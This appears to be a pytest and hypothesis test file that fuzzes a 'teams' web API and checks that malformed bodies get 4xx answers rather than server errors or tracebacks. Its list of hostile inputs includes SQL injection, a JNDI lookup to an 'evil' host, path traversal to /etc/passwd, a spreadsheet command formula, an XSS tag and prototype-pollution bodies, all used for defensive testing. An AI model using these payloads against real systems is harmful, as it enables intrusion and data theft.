"""Whatever is sent, the answer is a 4xx that names the field, never a 5xx."""

import re
from uuid import uuid4

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from teams.api import ROUTES

TAKING_BODIES = [
    route
    for group in ROUTES
    for route in group.routes
    if route.signature.body is not None and not route.signature.takes_raw_body  # a file: test_logos
]
NASTY = [
    None,
    True,
    0,
    -1,
    1e308,
    2**63,
    2**70,
    "",
    " ",
    "\x00",
    "\u202e",
    "x" * 100_000,
    "' OR 1=1; --",
    "${jndi:ldap://evil}",
    "../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "<img src=x onerror=alert(1)>",
    [],
    ["x"],
    {},
    {"$ne": None},
    "00000000-0000-0000-0000-000000000000",
]
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=40),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=10), inner, max_size=3),
    max_leaves=8,
)
VALID = {
    "email": "grace@example.com",
    "password": "a quiet harbour at dawn",
    "name": "Grace",
    "organization_name": "Navy",
    "role": "viewer",
    "token": "x" * 43,
    "organization_id": str(uuid4()),
    "client": "api",
}


def fields_of(route) -> list[str]:
    return list(route.signature.body.json_schema()["properties"])


async def send(teams, route, person, body):
    token = teams.internal_token() if route.path.startswith("/internal") else person.token
    path = re.sub(r"\{\w+\}", lambda _: str(uuid4()), route.path)
    return await teams.call(route.method, path, body, token=token, If_Match='"1"')


@pytest.fixture
async def person(teams):
    return await teams.register()


@pytest.mark.parametrize("route", TAKING_BODIES, ids=lambda route: route.name)
async def test_each_field_with_each_nasty_value(teams, person, route) -> None:
    fields = fields_of(route)
    valid = {name: VALID[name] for name in fields if name in VALID}
    for name in fields:
        for value in NASTY:
            answer = await send(teams, route, person, valid | {name: value})
            assert answer.status < 500, (name, value, answer.body)


@pytest.mark.parametrize("body", [None, [], "x", 7, True, {"unknown": 1}, {"__proto__": {}}, [[[[]]]]])
async def test_bodies_that_are_no_such_object(teams, person, body) -> None:
    for route in TAKING_BODIES:
        answer = await send(teams, route, person, body)
        assert answer.status in (404, 415, 422), (route.name, answer.status)


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.sampled_from(TAKING_BODIES), json_values)
async def test_anything_at_all(teams, person, route, value) -> None:
    body = dict.fromkeys(fields_of(route), value)
    assert (await send(teams, route, person, body)).status < 500


@pytest.mark.parametrize(
    ("content", "status"),
    [
        (b"", 400),
        (b"{", 400),
        (b'{"token": "x"', 400),
        (b'{"token": "x", "token": "y"}', 400),
        (b"\xff\xfe", 400),
        (b"[" * 5000, 400),
        (b'{"token": NaN}', 400),
        (b'{"token": "\\ud800"}', 422),
        (b'{"token": "' + b"x" * 2_000_000 + b'"}', 413),
    ],
)
async def test_bytes_that_are_no_json(teams, content, status) -> None:
    headers = {"Content-Type": "application/json"}
    async with teams.http.post(f"{teams.url}/v1/invitations/preview", data=content, headers=headers) as answer:
        assert answer.status == status
        assert answer.content_type == "application/problem+json"
        assert "Traceback" not in await answer.text()
